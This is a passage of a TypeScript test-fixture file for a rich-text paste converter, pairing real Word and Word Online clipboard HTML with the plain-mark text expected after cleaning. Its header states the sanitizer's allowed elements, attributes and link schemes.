/**
 * What the clipboard has when a text is pasted from Word, a mail, a web page, a PDF; hostile markup; texts that
 * look like markup (OFF-14). The author of these cases had read the requirements, not the rules or the code.
 *
 * `expected` is in plain marks: paragraphs between empty lines, one \n is a line break inside a paragraph,
 * `**important**`, `*nuance*`, `- item` (items follow each other), `[text](address)`. `or` has other results that
 * may be defended. Compare after \u00a0 and \u202f have become blanks. A case with `loose` may also show remains of
 * its code as letters that nothing executes, as long as «Avant» is still read.
 * For every hostile case, in any result: the only elements are p, br, strong, em, ul, ol, li, a (h3), the only
 * attributes href, rel, target, each href begins with https://, http://, mailto: or one single slash, and a second
 * pass over the result changes nothing.
 */
export interface PasteCase {
  name: string
  html?: string
  text?: string
  expected: string
  or?: string[]
  loose?: true
}

export const pasteCases: PasteCase[] = [
  // Nadia copies three paragraphs out of Word on her Windows laptop. The lines of the source are wrapped: a line
  // break in the source is a blank.
  {
    name: 'word-desktop-paragraphs',
    html: '<html xmlns:v="urn:schemas-microsoft-com:vml"\r\nxmlns:o="urn:schemas-microsoft-com:office:office"\r\nxmlns:w="urn:schemas-microsoft-com:office:word"\r\nxmlns:m="http://schemas.microsoft.com/office/2004/12/omml"\r\nxmlns="http://www.w3.org/TR/REC-html40">\r\n\r\n<head>\r\n<meta http-equiv=Content-Type content="text/html; charset=utf-8">\r\n<meta name=ProgId content=Word.Document>\r\n<meta name=Generator content="Microsoft Word 15">\r\n<meta name=Originator content="Microsoft Word 15">\r\n<link rel=File-List\r\nhref="file:///C:/Users/NADIA~1/AppData/Local/Temp/msohtmlclip1/01/clip_filelist.xml">\r\n<!--[if !mso]>\r\n<style>\r\nv\\:* {behavior:url(#default#VML);}\r\n</style>\r\n<![endif]--><!--[if gte mso 9]><xml>\r\n <o:OfficeDocumentSettings>\r\n  <o:AllowPNG/>\r\n </o:OfficeDocumentSettings>\r\n</xml><![endif]-->\r\n<!--[if gte mso 9]><xml>\r\n <w:WordDocument>\r\n  <w:View>Normal</w:View>\r\n  <w:HyphenationZone>21</w:HyphenationZone>\r\n  <w:LidThemeOther>FR</w:LidThemeOther>\r\n </w:WordDocument>\r\n</xml><![endif]--><!--[if gte mso 9]><xml>\r\n <w:LatentStyles DefLockedState="false" LatentStyleCount="376">\r\n  <w:LsdException Locked="false" Priority="0" QFormat="true" Name="Normal"/>\r\n  <w:LsdException Locked="false" Priority="9" QFormat="true" Name="heading 1"/>\r\n </w:LatentStyles>\r\n</xml><![endif]-->\r\n<style>\r\n<!--\r\n /* Font Definitions */\r\n @font-face\r\n\t{font-family:Wingdings;\r\n\tpanose-1:5 0 0 0 0 0 0 0 0 0;\r\n\tmso-font-charset:2;}\r\n /* Style Definitions */\r\n p.MsoNormal, li.MsoNormal, div.MsoNormal\r\n\t{mso-style-unhide:no;\r\n\tmargin:0cm;\r\n\tfont-size:11.0pt;\r\n\tfont-family:"Calibri",sans-serif;}\r\nspan.SpellE\r\n\t{mso-style-name:"";\r\n\tmso-spl-e:yes;}\r\n@page WordSection1\r\n\t{size:595.3pt 841.9pt;}\r\n /* List Definitions */\r\n @list l0\r\n\t{mso-list-id:1029841733;}\r\n@list l0:level1\r\n\t{mso-level-number-format:bullet;\r\n\tmso-level-text:;\r\n\tfont-family:Symbol;}\r\n-->\r\n</style>\r\n<!--[if gte mso 10]>\r\n<style>\r\n /* Style Definitions */\r\n table.MsoNormalTable\r\n\t{mso-style-name:"Tableau Normal";}\r\n</style>\r\n<![endif]-->\r\n</head>\r\n\r\n<body lang=FR style=\'tab-interval:35.4pt;word-wrap:break-word\'>\r\n<!--StartFragment-->\r\n\r\n<p class=MsoNormal>Le lycée <span class=SpellE>Bréquigny</span> ouvre ses ateliers <b\r\nstyle=\'mso-bidi-font-weight:normal\'>samedi 12 décembre</b>, de 9&nbsp;h à\r\nmidi.<span style=\'mso-spacerun:yes\'>  </span>Venez <i style=\'mso-bidi-font-style:normal\'>avec\r\nvos questions</i>.<o:p></o:p></p>\r\n\r\n<p class=MsoNormal><o:p>&nbsp;</o:p></p>\r\n\r\n<p class=MsoNormal>Le programme est sur <a\r\nhref="https://www.exemple.fr/ateliers">le site\r\ndu lycée</a>.<o:p></o:p></p>\r\n\r\n<!--EndFragment-->\r\n</body>\r\n\r\n</html>\r\n',
    expected:
      'Le lycée Bréquigny ouvre ses ateliers **samedi 12 décembre**, de 9 h à midi. Venez *avec vos questions*.\n\nLe programme est sur [le site du lycée](https://www.exemple.fr/ateliers).',
  },
  // A list with round bullets: in Word each item is a paragraph, the bullet is a letter of the font Symbol.
  {
    name: 'word-desktop-bullets',
    html: '<html xmlns:v="urn:schemas-microsoft-com:vml"\r\nxmlns:o="urn:schemas-microsoft-com:office:office"\r\nxmlns:w="urn:schemas-microsoft-com:office:word"\r\nxmlns:m="http://schemas.microsoft.com/office/2004/12/omml"\r\nxmlns="http://www.w3.org/TR/REC-html40">\r\n\r\n<head>\r\n<meta http-equiv=Content-Type content="text/html; charset=utf-8">\r\n<meta name=ProgId content=Word.Document>\r\n<meta name=Generator content="Microsoft Word 15">\r\n<meta name=Originator content="Microsoft Word 15">\r\n<link rel=File-List\r\nhref="file:///C:/Users/NADIA~1/AppData/Local/Temp/msohtmlclip1/01/clip_filelist.xml">\r\n<!--[if !mso]>\r\n<style>\r\nv\\:* {behavior:url(#default#VML);}\r\n</style>\r\n<![endif]--><!--[if gte mso 9]><xml>\r\n <o:OfficeDocumentSettings>\r\n  <o:AllowPNG/>\r\n </o:OfficeDocumentSettings>\r\n</xml><![endif]-->\r\n<!--[if gte mso 9]><xml>\r\n <w:WordDocument>\r\n  <w:View>Normal</w:View>\r\n  <w:HyphenationZone>21</w:HyphenationZone>\r\n  <w:LidThemeOther>FR</w:LidThemeOther>\r\n </w:WordDocument>\r\n</xml><![endif]--><!--[if gte mso 9]><xml>\r\n <w:LatentStyles DefLockedState="false" LatentStyleCount="376">\r\n  <w:LsdException Locked="false" Priority="0" QFormat="true" Name="Normal"/>\r\n  <w:LsdException Locked="false" Priority="9" QFormat="true" Name="heading 1"/>\r\n </w:LatentStyles>\r\n</xml><![endif]-->\r\n<style>\r\n<!--\r\n /* Font Definitions */\r\n @font-face\r\n\t{font-family:Wingdings;\r\n\tpanose-1:5 0 0 0 0 0 0 0 0 0;\r\n\tmso-font-charset:2;}\r\n /* Style Definitions */\r\n p.MsoNormal, li.MsoNormal, div.MsoNormal\r\n\t{mso-style-unhide:no;\r\n\tmargin:0cm;\r\n\tfont-size:11.0pt;\r\n\tfont-family:"Calibri",sans-serif;}\r\nspan.SpellE\r\n\t{mso-style-name:"";\r\n\tmso-spl-e:yes;}\r\n@page WordSection1\r\n\t{size:595.3pt 841.9pt;}\r\n /* List Definitions */\r\n @list l0\r\n\t{mso-list-id:1029841733;}\r\n@list l0:level1\r\n\t{mso-level-number-format:bullet;\r\n\tmso-level-text:;\r\n\tfont-family:Symbol;}\r\n-->\r\n</style>\r\n<!--[if gte mso 10]>\r\n<style>\r\n /* Style Definitions */\r\n table.MsoNormalTable\r\n\t{mso-style-name:"Tableau Normal";}\r\n</style>\r\n<![endif]-->\r\n</head>\r\n\r\n<body lang=FR style=\'tab-interval:35.4pt;word-wrap:break-word\'>\r\n<!--StartFragment-->\r\n\r\n<p class=MsoNormal>À apporter :<o:p></o:p></p>\r\n\r\n<p class=MsoListParagraphCxSpFirst style=\'margin-left:36.0pt;mso-add-space:auto;\r\ntext-indent:-18.0pt;mso-list:l0 level1 lfo1\'><![if !supportLists]><span\r\nstyle=\'font-family:Symbol;mso-fareast-font-family:Symbol;mso-bidi-font-family:\r\nSymbol\'><span style=\'mso-list:Ignore\'>·<span style=\'font:7.0pt "Times New Roman"\'>&nbsp;&nbsp;&nbsp;&nbsp;&nbsp;&nbsp;\r\n</span></span></span><![endif]>une pièce d’identité<o:p></o:p></p>\r\n\r\n<p class=MsoListParagraphCxSpMiddle style=\'margin-left:36.0pt;mso-add-space:auto;\r\ntext-indent:-18.0pt;mso-list:l0 level1 lfo1\'><![if !supportLists]><span\r\nstyle=\'font-family:Symbol;mso-fareast-font-family:Symbol;mso-bidi-font-family:\r\nSymbol\'><span style=\'mso-list:Ignore\'>·<span style=\'font:7.0pt "Times New Roman"\'>&nbsp;&nbsp;&nbsp;&nbsp;&nbsp;&nbsp;\r\n</span></span></span><![endif]>un <b>carnet</b><o:p></o:p></p>\r\n\r\n<p class=MsoListParagraphCxSpLast style=\'margin-left:36.0pt;mso-add-space:auto;\r\ntext-indent:-18.0pt;mso-list:l0 level1 lfo1\'><![if !supportLists]><span\r\nstyle=\'font-family:Symbol;mso-fareast-font-family:Symbol;mso-bidi-font-family:\r\nSymbol\'><span style=\'mso-list:Ignore\'>·<span style=\'font:7.0pt "Times New Roman"\'>&nbsp;&nbsp;&nbsp;&nbsp;&nbsp;&nbsp;\r\n</span></span></span><![endif]>de quoi écrire<o:p></o:p></p>\r\n\r\n<p class=MsoNormal>À samedi !<o:p></o:p></p>\r\n\r\n<!--EndFragment-->\r\n</body>\r\n\r\n</html>\r\n',
    expected: 'À apporter :\n\n- une pièce d’identité\n- un **carnet**\n- de quoi écrire\n\nÀ samedi !',
  },
  // A numbered list of Word.
  {
    name: 'word-desktop-numbers',
    html: '<html xmlns:v="urn:schemas-microsoft-com:vml"\r\nxmlns:o="urn:schemas-microsoft-com:office:office"\r\nxmlns:w="urn:schemas-microsoft-com:office:word"\r\nxmlns:m="http://schemas.microsoft.com/office/2004/12/omml"\r\nxmlns="http://www.w3.org/TR/REC-html40">\r\n\r\n<head>\r\n<meta http-equiv=Content-Type content="text/html; charset=utf-8">\r\n<meta name=ProgId content=Word.Document>\r\n<meta name=Generator content="Microsoft Word 15">\r\n<meta name=Originator content="Microsoft Word 15">\r\n<link rel=File-List\r\nhref="file:///C:/Users/NADIA~1/AppData/Local/Temp/msohtmlclip1/01/clip_filelist.xml">\r\n<!--[if !mso]>\r\n<style>\r\nv\\:* {behavior:url(#default#VML);}\r\n</style>\r\n<![endif]--><!--[if gte mso 9]><xml>\r\n <o:OfficeDocumentSettings>\r\n  <o:AllowPNG/>\r\n </o:OfficeDocumentSettings>\r\n</xml><![endif]-->\r\n<!--[if gte mso 9]><xml>\r\n <w:WordDocument>\r\n  <w:View>Normal</w:View>\r\n  <w:HyphenationZone>21</w:HyphenationZone>\r\n  <w:LidThemeOther>FR</w:LidThemeOther>\r\n </w:WordDocument>\r\n</xml><![endif]--><!--[if gte mso 9]><xml>\r\n <w:LatentStyles DefLockedState="false" LatentStyleCount="376">\r\n  <w:LsdException Locked="false" Priority="0" QFormat="true" Name="Normal"/>\r\n  <w:LsdException Locked="false" Priority="9" QFormat="true" Name="heading 1"/>\r\n </w:LatentStyles>\r\n</xml><![endif]-->\r\n<style>\r\n<!--\r\n /* Font Definitions */\r\n @font-face\r\n\t{font-family:Wingdings;\r\n\tpanose-1:5 0 0 0 0 0 0 0 0 0;\r\n\tmso-font-charset:2;}\r\n /* Style Definitions */\r\n p.MsoNormal, li.MsoNormal, div.MsoNormal\r\n\t{mso-style-unhide:no;\r\n\tmargin:0cm;\r\n\tfont-size:11.0pt;\r\n\tfont-family:"Calibri",sans-serif;}\r\nspan.SpellE\r\n\t{mso-style-name:"";\r\n\tmso-spl-e:yes;}\r\n@page WordSection1\r\n\t{size:595.3pt 841.9pt;}\r\n /* List Definitions */\r\n @list l0\r\n\t{mso-list-id:1029841733;}\r\n@list l0:level1\r\n\t{mso-level-number-format:bullet;\r\n\tmso-level-text:;\r\n\tfont-family:Symbol;}\r\n-->\r\n</style>\r\n<!--[if gte mso 10]>\r\n<style>\r\n /* Style Definitions */\r\n table.MsoNormalTable\r\n\t{mso-style-name:"Tableau Normal";}\r\n</style>\r\n<![endif]-->\r\n</head>\r\n\r\n<body lang=FR style=\'tab-interval:35.4pt;word-wrap:break-word\'>\r\n<!--StartFragment-->\r\n\r\n<p class=MsoListParagraphCxSpFirst style=\'margin-left:36.0pt;mso-add-space:auto;\r\ntext-indent:-18.0pt;mso-list:l0 level1 lfo1\'><![if !supportLists]><span\r\nstyle=\'font-family:Calibri;mso-fareast-font-family:Calibri;mso-bidi-font-family:\r\nCalibri\'><span style=\'mso-list:Ignore\'>1.<span style=\'font:7.0pt "Times New Roman"\'>&nbsp;&nbsp;&nbsp;&nbsp;&nbsp;&nbsp;\r\n</span></span></span><![endif]>Ouvrez l’outil.<o:p></o:p></p>\r\n\r\n<p class=MsoListParagraphCxSpMiddle style=\'margin-left:36.0pt;mso-add-space:auto;\r\ntext-indent:-18.0pt;mso-list:l0 level1 lfo1\'><![if !supportLists]><span\r\nstyle=\'font-family:Calibri;mso-fareast-font-family:Calibri;mso-bidi-font-family:\r\nCalibri\'><span style=\'mso-list:Ignore\'>2.<span style=\'font:7.0pt "Times New Roman"\'>&nbsp;&nbsp;&nbsp;&nbsp;&nbsp;&nbsp;\r\n</span></span></span><![endif]>Répondez.<o:p></o:p></p>\r\n\r\n<p class=MsoListParagraphCxSpLast style=\'margin-left:36.0pt;mso-add-space:auto;\r\ntext-indent:-18.0pt;mso-list:l0 level1 lfo1\'><![if !supportLists]><span\r\nstyle=\'font-family:Calibri;mso-fareast-font-family:Calibri;mso-bidi-font-family:\r\nCalibri\'><span style=\'mso-list:Ignore\'>3.<span style=\'font:7.0pt "Times New Roman"\'>&nbsp;&nbsp;&nbsp;&nbsp;&nbsp;&nbsp;\r\n</span></span></span><![endif]>Revenez ici.<o:p></o:p></p>\r\n\r\n\r\n\r\n<!--EndFragment-->\r\n</body>\r\n\r\n</html>\r\n',
    expected: '- Ouvrez l’outil.\n- Répondez.\n- Revenez ici.',
    or: ['1. Ouvrez l’outil.\n2. Répondez.\n3. Revenez ici.', '1. Ouvrez l’outil.\n1. Répondez.\n1. Revenez ici.'],
  },
  // A list with a second level («o» of Courier New). The field has one level: nothing is lost, the
  // letter «o» does not stay.
  {
    name: 'word-desktop-two-levels',
    html: "<html xmlns:o=\"urn:schemas-microsoft-com:office:office\"\r\nxmlns:w=\"urn:schemas-microsoft-com:office:word\">\r\n<head><meta name=Generator content=\"Microsoft Word 15\"><style><!--\r\np.MsoNormal {margin:0cm;}\r\n--></style></head>\r\n<body lang=FR><!--StartFragment--><p class=MsoListParagraphCxSpFirst style='margin-left:36.0pt;mso-add-space:auto;\r\ntext-indent:-18.0pt;mso-list:l0 level1 lfo1'><![if !supportLists]><span\r\nstyle='font-family:Symbol;mso-fareast-font-family:Symbol;mso-bidi-font-family:\r\nSymbol'><span style='mso-list:Ignore'>·<span style='font:7.0pt \"Times New Roman\"'>&nbsp;&nbsp;&nbsp;&nbsp;&nbsp;&nbsp;\r\n</span></span></span><![endif]>Le matin<o:p></o:p></p>\r\n\r\n<p class=MsoListParagraphCxSpMiddle style='margin-left:72.0pt;mso-add-space:auto;\r\ntext-indent:-18.0pt;mso-list:l0 level2 lfo1'><![if !supportLists]><span\r\nstyle='font-family:\"Courier New\";mso-fareast-font-family:\"Courier New\";mso-bidi-font-family:\r\n\"Courier New\"'><span style='mso-list:Ignore'>o<span style='font:7.0pt \"Times New Roman\"'>&nbsp;&nbsp;&nbsp;&nbsp;&nbsp;&nbsp;\r\n</span></span></span><![endif]>visite<o:p></o:p></p>\r\n\r\n<p class=MsoListParagraphCxSpLast style='margin-left:36.0pt;mso-add-space:auto;\r\ntext-indent:-18.0pt;mso-list:l0 level1 lfo1'><![if !supportLists]><span\r\nstyle='font-family:Symbol;mso-fareast-font-family:Symbol;mso-bidi-font-family:\r\nSymbol'><span style='mso-list:Ignore'>·<span style='font:7.0pt \"Times New Roman\"'>&nbsp;&nbsp;&nbsp;&nbsp;&nbsp;&nbsp;\r\n</span></span></span><![endif]>L’après-midi<o:p></o:p></p>\r\n\r\n<!--EndFragment--></body></html>",
    expected: '- Le matin\n- visite\n- L’après-midi',
    or: ['- Le matin\n  - visite\n- L’après-midi'],
  },
  // One item alone has the class MsoListParagraph, without First or Last.
  {
    name: 'word-desktop-list-of-one',
    html: '<html xmlns:o="urn:schemas-microsoft-com:office:office"\r\nxmlns:w="urn:schemas-microsoft-com:office:word">\r\n<head><meta name=Generator content="Microsoft Word 15"><style><!--\r\np.MsoNormal {margin:0cm;}\r\n--></style></head>\r\n<body lang=FR><!--StartFragment--><p class=MsoListParagraph style=\'margin-left:36.0pt;mso-add-space:auto;\r\ntext-indent:-18.0pt;mso-list:l0 level1 lfo1\'><![if !supportLists]><span\r\nstyle=\'font-family:Wingdings;mso-fareast-font-family:Wingdings;mso-bidi-font-family:\r\nWingdings\'><span style=\'mso-list:Ignore\'>§<span style=\'font:7.0pt "Times New Roman"\'>&nbsp;&nbsp;&nbsp;&nbsp;&nbsp;&nbsp;\r\n</span></span></span><![endif]>un seul point<o:p></o:p></p>\r\n\r\n<!--EndFragment--></body></html>',
    expected: '- un seul point',
  },
  // The same list after a web page that filters styles: no mso-list is left, only the class, a bullet and blanks.
  {
    name: 'word-desktop-list-filtered',
    html: '<p class="MsoListParagraphCxSpFirst" style="text-indent:-.25in"><span style="font-family:Symbol"><span style="">&bull;<span style="font:7.0pt &quot;Times New Roman&quot;">&nbsp;&nbsp;&nbsp;&nbsp;\n</span></span></span>premier point</p>\n<p class="MsoListParagraphCxSpLast" style="text-indent:-.25in"><span style="font-family:Symbol"><span style="">&bull;<span style="font:7.0pt &quot;Times New Roman&quot;">&nbsp;&nbsp;&nbsp;&nbsp;\n</span></span></span>second point</p>',
    expected: '- premier point\n- second point',
  },
  // Word writes «mso-bidi-font-weight:normal» in every bold word: it IS bold (a
  // search for «font-weight:normal» would lose it).
  {
    name: 'word-desktop-bold-is-bold',
    html: '<html xmlns:o="urn:schemas-microsoft-com:office:office"\r\nxmlns:w="urn:schemas-microsoft-com:office:word">\r\n<head><meta name=Generator content="Microsoft Word 15"><style><!--\r\np.MsoNormal {margin:0cm;}\r\n--></style></head>\r\n<body lang=FR><!--StartFragment--><p class=MsoNormal>Avant le <b style=\'mso-bidi-font-weight:normal\'>15 mars</b>, puis <span\r\nstyle=\'mso-bidi-font-weight:bold\'>rien de gras</span>.<o:p></o:p></p><!--EndFragment--></body></html>',
    expected: 'Avant le **15 mars**, puis rien de gras.',
  },
  // A colleague followed the changes: what was deleted does not return, what was inserted stays, comments
  // do not come.
  {
    name: 'word-desktop-tracked-changes',
    html: '<html xmlns:o="urn:schemas-microsoft-com:office:office"\r\nxmlns:w="urn:schemas-microsoft-com:office:word">\r\n<head><meta name=Generator content="Microsoft Word 15"><style><!--\r\np.MsoNormal {margin:0cm;}\r\n--></style></head>\r\n<body lang=FR><!--StartFragment--><p class=MsoNormal>La visite dure <del cite="mailto:Paul%20Kerloc\'h"\r\ndatetime="2026-11-20T09:12"><span>deux heures</span></del><ins cite="mailto:Paul%20Kerloc\'h"\r\ndatetime="2026-11-20T09:12"><span>une heure</span></ins><a style=\'mso-comment-reference:\r\nPK_1;mso-comment-date:20261120T0913\'></a><span class=MsoCommentReference><span style=\'font-size:8.0pt\'><a\r\nclass=msocomanchor id="_anchor_1" onmouseover="msoCommentShow(\'_anchor_1\',\'_com_1\')"\r\nonmouseout="msoCommentHide(\'_com_1\')" href="#_msocom_1" name="_msoanchor_1">[PK1]</a></span></span>.<o:p></o:p></p>\r\n<div style=\'mso-element:comment-list\'><![if !supportAnnotations]><hr class=msocomoff align=left size=1 width="33%"><![endif]>\r\n<div style=\'mso-element:comment\'><div id="_com_1" class=msocomtxt><![if !supportAnnotations]><a name="_msocom_1"></a><![endif]>\r\n<p class=MsoCommentText><span class=MsoCommentReference><![if !supportAnnotations]><a class=msocomoff href="#_msoanchor_1">[PK1]</a><![endif]></span>Est-ce sûr ?<o:p></o:p></p></div></div></div><!--EndFragment--></body></html>',
    expected: 'La visite dure une heure.',
    or: ['La visite dure une heure[PK1].\n\n[PK1]Est-ce sûr ?'],
  },
  // An old document: smart tags around places and dates, Word’s grammar marks.
  {
    name: 'word-desktop-smart-tags',
    html: '<html xmlns:o="urn:schemas-microsoft-com:office:office"\r\nxmlns:w="urn:schemas-microsoft-com:office:word">\r\n<head><meta name=Generator content="Microsoft Word 15"><style><!--\r\np.MsoNormal {margin:0cm;}\r\n--></style></head>\r\n<body lang=FR><!--StartFragment--><p class=MsoNormal>Rendez-vous à <st1:PersonName ProductID="la Maison" w:st="on"><span class=GramE>la Maison</span> des\r\nmétiers</st1:PersonName>, le <st1:date Year="2026" Day="3" Month="12" w:st="on">3 décembre</st1:date>.<o:p></o:p></p><!--EndFragment--></body></html>',
    expected: 'Rendez-vous à la Maison des métiers, le 3 décembre.',
  },
  // A paragraph with a picture and a drawing: the picture does not come, nor its path on the laptop.
  {
    name: 'word-desktop-picture',
    html: '<html xmlns:o="urn:schemas-microsoft-com:office:office"\r\nxmlns:w="urn:schemas-microsoft-com:office:word">\r\n<head><meta name=Generator content="Microsoft Word 15"><style><!--\r\np.MsoNormal {margin:0cm;}\r\n--></style></head>\r\n<body lang=FR><!--StartFragment--><p class=MsoNormal>Notre atelier :<span style=\'mso-no-proof:yes\'><!--[if gte vml 1]><v:shape id="Image_1" o:spid="_x0000_i1025"\r\n type="#_x0000_t75" style=\'width:226.5pt;visibility:visible\'><v:imagedata\r\n src="file:///C:/Users/NADIA~1/AppData/Local/Temp/msohtmlclip1/01/clip_image001.jpg" o:title=""/></v:shape><![endif]--><![if !vml]><img\r\nwidth=302 height=201\r\nsrc="file:///C:/Users/NADIA~1/AppData/Local/Temp/msohtmlclip1/01/clip_image002.jpg"\r\nv:shapes="Image_1" alt="Une image contenant texte, intérieur"><![endif]></span><o:p></o:p></p><p class=MsoNormal>À bientôt.<o:p></o:p></p><!--EndFragment--></body></html>',
    expected: 'Notre atelier :\n\nÀ bientôt.',
  },
  // A table of two rows: the words stay and do not touch one another.
  {
    name: 'word-desktop-table',
    html: '<html xmlns:o="urn:schemas-microsoft-com:office:office"\r\nxmlns:w="urn:schemas-microsoft-com:office:word">\r\n<head><meta name=Generator content="Microsoft Word 15"><style><!--\r\np.MsoNormal {margin:0cm;}\r\n--></style></head>\r\n<body lang=FR><!--StartFragment--><table class=MsoTableGrid border=1 cellspacing=0 cellpadding=0 style=\'border-collapse:collapse;mso-yfti-tbllook:1184\'>\r\n <tr style=\'mso-yfti-irow:0;mso-yfti-firstrow:yes\'><td width=302 valign=top><p class=MsoNormal>Lundi<o:p></o:p></p></td><td width=302 valign=top><p class=MsoNormal>9 h<o:p></o:p></p></td></tr>\r\n <tr style=\'mso-yfti-irow:1;mso-yfti-lastrow:yes\'><td width=302 valign=top><p class=MsoNormal>Mardi<o:p></o:p></p></td><td width=302 valign=top><p class=MsoNormal>14 h<o:p></o:p></p></td></tr>\r\n</table><!--EndFragment--></body></html>',
    expected: 'Lundi\n\n9 h\n\nMardi\n\n14 h',
    or: [
      'Lundi 9 h\n\nMardi 14 h',
      'Lundi · 9 h\n\nMardi · 14 h',
      'Lundi : 9 h\n\nMardi : 14 h',
      '- Lundi 9 h\n- Mardi 14 h',
      'Lundi 9 h\nMardi 14 h',
    ],
  },
  // Titles of Word. The field has no title: a title is a paragraph, important or not.
  {
    name: 'word-desktop-headings',
    html: '<html xmlns:o="urn:schemas-microsoft-com:office:office"\r\nxmlns:w="urn:schemas-microsoft-com:office:word">\r\n<head><meta name=Generator content="Microsoft Word 15"><style><!--\r\np.MsoNormal {margin:0cm;}\r\n--></style></head>\r\n<body lang=FR><!--StartFragment--><h1>La semaine des métiers<o:p></o:p></h1><p class=MsoTitle>Cinq jours<o:p></o:p></p><h2><span style=\'mso-fareast-font-family:"Times New Roman"\'>Le lundi<o:p></o:p></span></h2><p class=MsoNormal>On visite.<o:p></o:p></p><!--EndFragment--></body></html>',
    expected: '**La semaine des métiers**\n\nCinq jours\n\n**Le lundi**\n\nOn visite.',
    or: ['La semaine des métiers\n\nCinq jours\n\nLe lundi\n\nOn visite.'],
  },
  // A note at the foot of the page: its number is no link to «#_ftn1».
  {
    name: 'word-desktop-footnote',
    html: '<html xmlns:o="urn:schemas-microsoft-com:office:office"\r\nxmlns:w="urn:schemas-microsoft-com:office:word">\r\n<head><meta name=Generator content="Microsoft Word 15"><style><!--\r\np.MsoNormal {margin:0cm;}\r\n--></style></head>\r\n<body lang=FR><!--StartFragment--><p class=MsoNormal>Sur inscription<a style=\'mso-footnote-id:ftn1\' href="#_ftn1" name="_ftnref1" title=""><span class=MsoFootnoteReference><span style=\'mso-special-character:footnote\'><![if !supportFootnotes]><span class=MsoFootnoteReference>[1]</span><![endif]></span></span></a>.<o:p></o:p></p>\r\n<div style=\'mso-element:footnote-list\'><![if !supportFootnotes]><br clear=all><hr align=left size=1 width="33%"><![endif]><div style=\'mso-element:footnote\' id=ftn1><p class=MsoFootnoteText><a style=\'mso-footnote-id:ftn1\' href="#_ftnref1" name="_ftn1" title=""><span class=MsoFootnoteReference>[1]</span></a> Avant le 1er mai.<o:p></o:p></p></div></div><!--EndFragment--></body></html>',
    expected: 'Sur inscription[1].\n\n[1] Avant le 1er mai.',
  },
  // Shift + Enter inside a paragraph, then a page break.
  {
    name: 'word-desktop-line-and-page-breaks',
    html: "<html xmlns:o=\"urn:schemas-microsoft-com:office:office\"\r\nxmlns:w=\"urn:schemas-microsoft-com:office:word\">\r\n<head><meta name=Generator content=\"Microsoft Word 15\"><style><!--\r\np.MsoNormal {margin:0cm;}\r\n--></style></head>\r\n<body lang=FR><!--StartFragment--><p class=MsoNormal>Maison des métiers<br>\r\n12, rue du Port<br style='mso-special-character:line-break'>\r\n<![if !supportLineBreakNewLine]><br style='mso-special-character:line-break'>\r\n<![endif]><o:p></o:p></p><span style='font-size:11.0pt'><br clear=all style='mso-special-character:line-break;page-break-before:always'></span><p class=MsoNormal>Page deux.<o:p></o:p></p><!--EndFragment--></body></html>",
    expected: 'Maison des métiers\n12, rue du Port\n\nPage deux.',
  },
  // Word on a Mac: double quotes around styles, conditional comments as comments, three-letter entities.
  {
    name: 'word-mac-list',
    html: '<html xmlns:w="urn:schemas-microsoft-com:office:word"><head><meta name="Generator" content="Microsoft Word 15"></head><body lang="FR" style="tab-interval:36.0pt"><!--StartFragment-->\n<p class="MsoListParagraphCxSpFirst" style="text-indent:-18.0pt;mso-list:l0 level1 lfo1"><!--[if !supportLists]--><span style="font-family:Symbol;mso-fareast-font-family:Symbol"><span style="mso-list:Ignore">·<span style="font:7.0pt &quot;Times New Roman&quot;">&nbsp;&nbsp;&nbsp;&nbsp;<span class="Apple-converted-space">&nbsp;</span></span></span></span><!--[endif]-->l&rsquo;entretien<o:p></o:p></p>\n<p class="MsoListParagraphCxSpLast" style="text-indent:-18.0pt;mso-list:l0 level1 lfo1"><!--[if !supportLists]--><span style="font-family:Symbol;mso-fareast-font-family:Symbol"><span style="mso-list:Ignore">·<span style="font:7.0pt &quot;Times New Roman&quot;">&nbsp;&nbsp;&nbsp;&nbsp;<span class="Apple-converted-space">&nbsp;</span></span></span></span><!--[endif]-->la visite<o:p></o:p></p>\n<!--EndFragment--></body></html>',
    expected: '- l’entretien\n- la visite',
  },
  // Word in a browser (Microsoft 365): spans in spans, an end-of-paragraph span with a blank, bold as a style.
  {
    name: 'word-online-paragraphs',
    html: '<div class="OutlineElement Ltr SCXW92031447 BCX0" style="direction: ltr; margin: 0px; padding: 0px;"><p class="Paragraph SCXW92031447 BCX0" xml:lang="FR-FR" lang="FR-FR" paraid="1093847" paraeid="{0f1c}" style="font-weight: normal; font-style: normal; color: windowtext;"><span data-contrast="auto" class="TextRun SCXW92031447 BCX0" lang="FR-FR"><span class="NormalTextRun SCXW92031447 BCX0">Inscrivez-vous </span></span><span data-contrast="auto" class="TextRun MacChromeBold SCXW92031447 BCX0" style="font-weight: bold;"><span class="NormalTextRun SCXW92031447 BCX0">avant </span><span class="NormalTextRun SpellingErrorV2Themed SCXW92031447 BCX0">vendredi</span></span><span class="TextRun SCXW92031447 BCX0"><span class="NormalTextRun SCXW92031447 BCX0">, sur </span></span><a class="Hyperlink SCXW92031447 BCX0" href="https://www.exemple.fr/inscription" target="_blank" rel="noreferrer noopener"><span class="TextRun Underlined SCXW92031447 BCX0"><span class="NormalTextRun SCXW92031447 BCX0" data-ccp-charstyle="Hyperlink">cette page</span></span></a><span class="TextRun SCXW92031447 BCX0"><span class="NormalTextRun SCXW92031447 BCX0">.</span></span><span class="EOP SCXW92031447 BCX0" data-ccp-props="{&quot;201341983&quot;:0,&quot;335559739&quot;:160}">&nbsp;</span></p></div><div class="OutlineElement Ltr SCXW92031447 BCX0"><p class="Paragraph SCXW92031447 BCX0"><span class="TextRun SCXW92031447 BCX0" style="font-style: italic;"><span class="NormalTextRun SCXW92031447 BCX0">Places limitées.</span></span><span class="EOP SCXW92031447 BCX0" data-ccp-props="{}">&nbsp;</span></p></div>',
    expected:
      'Inscrivez-vous **avant vendredi**, sur [cette page](https://www.exemple.fr/inscription).\n\n*Places limitées.*',
  },
  // Word in a browser puts each item into its own list: people see one list of three.
  {
    name: 'word-online-list',
